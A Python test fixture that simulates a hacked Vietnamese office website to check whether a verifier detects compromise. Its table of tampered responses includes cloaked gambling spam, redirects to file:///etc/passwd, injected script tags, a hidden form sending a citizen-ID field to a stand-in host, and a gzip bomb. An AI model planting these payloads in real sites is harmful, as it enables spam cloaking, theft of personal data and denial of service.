"""What an intruded server may answer: ways that were seen on sites of offices, and their kin."""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable, Mapping
from dataclasses import replace
from types import MappingProxyType
from urllib.parse import urlsplit

from bench.safety.verify.liar import Ask, Lie, Reply

_SPAM = (
    "<!doctype html><title>Nhà cái uy tín</title><h1>Nhà cái</h1>"
    '<a href="https://nha-cai.example/">Chơi ngay</a>'
).encode()
_EVIL = "https://nha-cai.example/"
_PAGE = "text/html; charset=utf-8"
_ZEROS = gzip.compress(bytes(1 << 24), 9)
"""16 MB as 16 KB; sixty-four of them, one after another, are a gigabyte."""


def _shown(when: Callable[[Ask], bool], *, only: str = "") -> Lie:
    """Spam in place of every page, or of those whose path is ``only``, for some who ask."""

    def lie(ask: Ask, reply: Reply) -> Reply:
        page = reply.headers["Content-Type"] == _PAGE and reply.status == 200  # noqa: PLR2004  # of HTTP
        return replace(reply, body=_SPAM) if page and _is(ask, only) and when(ask) else reply

    return lie


def _is(ask: Ask, only: str) -> bool:
    return not only or urlsplit(ask.path).path == only


def _added(html: str) -> Lie:
    """Something more at the end of the home page."""

    def lie(ask: Ask, reply: Reply) -> Reply:
        return replace(reply, body=reply.body + html.encode()) if ask.path == "/" else reply

    return lie


def _header(name: str, value: str, only: str = "") -> Lie:
    """A header that says something else, on every answer or on one address."""
    return lambda ask, reply: reply.with_header(name, value) if _is(ask, only) else reply


def _lost(name: str, only: str = "") -> Lie:
    return lambda ask, reply: reply.without(name) if _is(ask, only) else reply


def _moved(to: str, only: str, status: int = 302) -> Lie:
    away = Reply(status, b"", {"Location": to})
    return lambda ask, reply: away if _is(ask, only) else reply


def _for_unknown(change: Callable[[Reply], Reply], part: str = "") -> Lie:
    """Another answer for addresses that are not there, or those of them that hold ``part``."""

    def lie(ask: Ask, reply: Reply) -> Reply:
        return change(reply) if reply.status == 404 and part in ask.path else reply  # noqa: PLR2004  # of HTTP

    return lie


def _now_and_then(one_in: int) -> Callable[[Ask], bool]:
    draw = random.Random(one_in)  # noqa: S311  # the same lies each time
    return lambda _: draw.randrange(one_in) == 0


def _bomb(reply: Reply) -> Reply:
    return replace(reply, body=_ZEROS * 64).with_header("Content-Encoding", "gzip")


def _body(body: bytes) -> Callable[[Reply], Reply]:
    return lambda reply: replace(reply, body=body)


def _seen_before(ask: Ask, reply: Reply) -> Reply:
    if ask.says("Cookie", "gap"):
        return replace(reply, body=_SPAM) if reply.headers["Content-Type"] == _PAGE else reply
    return reply.with_header("Set-Cookie", "gap=1; Path=/")


def _of(path: str, change: Callable[[Reply], Reply]) -> Lie:
    return lambda ask, reply: change(reply) if _is(ask, path) else reply


LIES: Mapping[str, Lie] = MappingProxyType(
    {
        "spam, trừ máy nhận là chuyenmuc": _shown(
            lambda ask: not ask.says("User-Agent", "chuyenmuc")
        ),
        "spam cho Googlebot": _shown(lambda ask: ask.says("User-Agent", "Googlebot")),
        "spam cho Googlebot, một trang trong": _shown(
            lambda ask: ask.says("User-Agent", "Googlebot"), only="/huong-dan/vneid/"
        ),
        "spam cho Bing": _shown(lambda ask: ask.says("User-Agent", "bingbot")),
        "spam cho điện thoại": _shown(lambda ask: ask.says("User-Agent", "Mobile")),
        "spam cho iPhone": _shown(lambda ask: ask.says("User-Agent", "iPhone")),
        "spam cho máy tính": _shown(lambda ask: ask.says("User-Agent", "Windows")),
        "spam cho người mở trong Zalo": _shown(lambda ask: ask.says("User-Agent", "Zalo")),
        "spam cho người đến từ Google": _shown(lambda ask: ask.says("Referer", "google")),
        "spam cho người đến từ Facebook": _shown(lambda ask: ask.says("Referer", "facebook")),
        "spam cho người dùng tiếng Trung": _shown(lambda ask: ask.says("Accept-Language", "zh")),
        "spam cho người dùng tiếng Anh": _shown(
            lambda ask: (ask.headers["Accept-Language"] or "").startswith("en")
        ),
        "spam cho ai chưa có cookie": _shown(lambda ask: not ask.headers["Cookie"]),
        "spam cho người quay lại": _seen_before,
        "spam khi địa chỉ có fbclid": _shown(lambda ask: "fbclid" in ask.path),
        "spam một lần trong mười": _shown(_now_and_then(10)),
        "đưa đi nơi khác": _moved(_EVIL, "/"),
        "đưa đi nơi khác, cùng tên máy khác cổng": _moved("http://127.0.0.1:9/", "/tin-tuc/"),
        "đưa sang tệp trên máy người đọc": _moved("file:///etc/passwd", "/lien-he/"),
        "đưa vòng quanh": _moved("/tin-tuc/", "/tin-tuc/", 301),
        "đưa sang trang khác của xã": _moved("/huong-dan/", "/lien-he/"),
        "dòng Refresh": _header("Refresh", f"0;url={_EVIL}", "/"),
        "dòng Link tải từ nơi khác": _header("Link", f"<{_EVIL}a.js>; rel=preload; as=script"),
        "dòng Set-Cookie": _header("Set-Cookie", "theo-doi=1"),
        "dòng Content-Location": _header("Content-Location", _EVIL, "/"),
        "dòng Clear-Site-Data": _header("Clear-Site-Data", '"*"'),
        "dòng Service-Worker-Allowed": _header("Service-Worker-Allowed", "/", "/assets/a.js"),
        "dòng X-Powered-By": _header("X-Powered-By", "PHP/5.6"),
        "tải trang về thay vì mở": _header("Content-Disposition", "attachment", "/lien-he/"),
        "mất CSP ở một trang": _lost("Content-Security-Policy", "/tin-tuc/"),
        "mất CSP ở mọi trang": _lost("Content-Security-Policy"),
        "CSP cho chạy mã của nơi khác": _header(
            "Content-Security-Policy", "default-src 'self' https: 'unsafe-inline'"
        ),
        "mất nosniff": _lost("X-Content-Type-Options"),
        "Referrer-Policy bị nới": _header("Referrer-Policy", "unsafe-url"),
        "Permissions-Policy bị nới": _header("Permissions-Policy", "camera=*", "/"),
        "tệp .pdf gửi như trang": _header(
            "Content-Type", "text/html", "/huong-dan/m%E1%BA%ABu%20%C4%91%C6%A1n.pdf"
        ),
        "bảng chữ khác": _header("Content-Type", "text/html; charset=utf-7", "/lien-he/"),
        "mã lệnh lạ": _added(f'<script src="{_EVIL}a.js"></script>'),
        "mã lệnh chèn thẳng": _added("<script>location='//nha-cai.example'</script>"),
        "meta refresh": _added(f'<meta http-equiv="refresh" content="0;url={_EVIL}">'),
        "liên kết giấu": _added(f'<div style="display:none"><a href="{_EVIL}">nhà cái</a></div>'),
        "liên kết đẩy ra ngoài màn hình": _added(
            f'<p style="position:absolute; left:-9999px"><a href="{_EVIL}">x</a></p>'
        ),
        "khung nhúng": _added(f'<iframe src="{_EVIL}"></iframe>'),
        "ô nhập gửi đi nơi khác": _added(f'<form action="{_EVIL}"><input name="cccd"></form>'),
        "tệp mã lệnh bị sửa": _of("/assets/a.js", _body(b"start();fetch('//nha-cai.example')")),
        "mọi địa chỉ đều có trang": _for_unknown(lambda r: replace(r, status=200, body=_SPAM)),
        "địa chỉ .php nào cũng có trang": _for_unknown(
            lambda r: replace(r, status=200, body=_SPAM), ".php"
        ),
        "địa chỉ /san-pham/ nào cũng có trang": _for_unknown(
            lambda r: replace(r, status=200, body=_SPAM), "/san-pham/"
        ),
        "địa chỉ lạ đưa đi nơi khác": _for_unknown(lambda _: Reply(302, b"", {"Location": _EVIL})),
        "trang 404 bị thay": _for_unknown(_body(_SPAM)),
        "trang 404 bị thay bằng chữ": _for_unknown(_body(b"Not found")),
        "trang bị xóa": _of("/lien-he/", lambda r: replace(r, status=404)),
        "bản kê trên máy chủ bị sửa": _of("/integrity.json", _body(b"{}")),
        "1 MB bung ra 1 GB": _of("/robots.txt", _bomb),
        "trả lời nhỏ giọt": _of("/robots.txt", lambda r: replace(r, pause=5.0)),
        "trả lời đứt giữa chừng": _of(
            "/lien-he/", lambda r: r.with_header("Content-Length", "9999999")
        ),
        "nén hỏng": _of("/lien-he/", lambda r: r.with_header("Content-Encoding", "gzip")),
        "nén theo cách không hỏi": _of(
            "/lien-he/", lambda r: r.with_header("Content-Encoding", "br")
        ),
    }
)
"""Every lie by what it is. The server is ours in all else."""
